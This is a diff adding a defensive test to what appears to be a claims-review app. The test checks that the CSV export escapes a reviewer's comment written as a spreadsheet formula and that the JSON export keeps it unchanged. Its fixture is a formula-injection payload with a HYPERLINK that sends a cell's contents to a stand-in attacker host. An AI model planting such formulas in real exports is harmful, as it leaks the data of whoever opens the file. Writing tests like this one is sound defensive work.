@@ -445,3 +445,28 @@ def test_the_download_needs_its_csrf_token_as_the_audit_export_does(
     )
     assert response.status_code == 200
     assert AuditEvent.objects.get(verb=Verb.REVIEW_EXPORTED).payload["format"] == "json"
+
+
+def test_a_reason_written_as_a_formula_is_text_in_the_csv(
+    built: dict[str, Any], world: Any
+) -> None:
+    # A rejecter's reason (or an upstream's error) must not run in the spreadsheet of the
+    # person who opens the report; the JSON keeps the text as it was given.
+    formula = '=HYPERLINK("http://evil.example/?leak=" & A2, "open")'
+    request = payout(built["agents"][1], 900)
+    approval_decide(
+        request_id=request.pk,
+        user=world.supervisor,
+        verdict="reject",
+        seen_args_hash=request.args_hash,
+        comment=formula,
+    )
+    client = _client(world.compliance)
+    week = built["week"].name
+    text = client.post("/teams/claims/review/download", {"week": week}).content.decode()
+    causes = [r["cause"] for r in csv.DictReader(io.StringIO(text))]
+    expected = review.cause_of(formula)
+    assert "'" + expected in causes and expected not in causes
+    assert not any(c.startswith(("=", "+", "-", "@")) for c in causes)
+    body = client.post("/teams/claims/review/download", {"week": week, "format": "json"})
+    assert expected in [r["cause"] for r in json.loads(body.content)["rows"]]
